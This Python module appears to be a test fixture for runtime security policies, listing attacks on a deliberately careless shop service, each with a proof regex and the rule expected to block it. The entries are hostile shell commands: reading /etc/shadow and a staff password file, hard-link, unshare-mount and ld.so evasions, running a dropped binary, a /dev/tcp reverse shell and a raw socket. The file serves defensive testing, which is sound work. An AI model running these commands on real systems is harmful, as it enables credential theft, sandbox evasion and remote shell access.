# SPDX-License-Identifier: Apache-2.0
"""What the attacker tries, and the rule that is there to refuse it.

Each command is shell text that comes in through the careless page of the service. `sign` is what proves that
it worked, a regular expression in which TOKEN stands for the secret of this run; `seen_in` says where.
"""

from dataclasses import dataclass
from typing import Literal

ADDRESS = "127.0.0.1"
WEB_PORT = 8080
LISTENER_PORT = 4444
"""Where the attacker waits for the reverse shell."""

SHOP = "/var/www/shop"
PASSWORDS = f"{SHOP}/secrets/staff.passwd"
UPLOADS = f"{SHOP}/uploads"


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One thing to try. `policy` and `rule` are those that an alert must name."""

    title: str
    command: str
    sign: str
    seen_in: Literal["answer", "listener", "page"] = "answer"
    policy: str
    rule: str


ATTACKS = (
    Attack(
        title="read /etc/shadow",
        command="cat /etc/shadow",
        sign=r"^root:",
        policy="shop-secrets",
        rule="spec.file.matchPaths[0]",
    ),
    Attack(
        title="read the staff's secret",
        command=f"cat {PASSWORDS}",
        sign="TOKEN",
        policy="shop-secrets",
        rule="spec.file.matchDirectories[0]",
    ),
    Attack(
        title="hard link, then read",
        command=f"ln {PASSWORDS} {UPLOADS}/logo.png && cat {UPLOADS}/logo.png",
        sign="TOKEN",
        policy="shop-secrets",
        rule="spec.file.matchDirectories[0]",
    ),
    Attack(
        title="unshare, mount, read",
        command=f"unshare --mount sh -c 'mount --bind {SHOP}/secrets /mnt && cat /mnt/staff.passwd'",
        sign="TOKEN",
        policy="shop-secrets",
        rule="spec.file.matchDirectories[0]",
    ),
    Attack(
        title="start apt-get",
        command="apt-get --version",
        sign=r"^apt \d",
        policy="shop-packages",
        rule="spec.process.matchPaths[1]",
    ),
    Attack(
        title="apt-get through ld.so",
        command='set -- /lib*/ld-linux-*.so.*; "$1" /usr/bin/apt-get --version',
        sign=r"^apt \d",
        policy="shop-packages",
        rule="spec.process.matchPaths[1]",
    ),
    Attack(
        title="run a dropped program",
        command=f"cp /usr/bin/id {UPLOADS}/cat.png && chmod 755 {UPLOADS}/cat.png && {UPLOADS}/cat.png",
        sign=r"^uid=0\(root\)",
        policy="shop-tools",
        rule="spec.process.matchDirectories[0]",
    ),
    Attack(
        title="open a reverse shell",
        command=f"bash -i >& /dev/tcp/{ADDRESS}/{LISTENER_PORT} 0>&1",
        sign=r"uid=0\(root\)",
        seen_in="listener",
        policy="shop-network",
        rule="spec.network.matchProtocols[0]",
    ),
    Attack(
        title="open a raw socket",
        command="perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) or die $!; print qq(it is open)'",
        sign=r"^it is open",
        policy="shop-network",
        rule="spec.network.matchProtocols[2]",
    ),
    Attack(
        title="write to the web root",
        command=f"cp {UPLOADS}/note.html {SHOP}/html/owned.html",
        sign="TOKEN",
        seen_in="page",
        policy="shop-web-root",
        rule="spec.file.matchDirectories[0]",
    ),
)
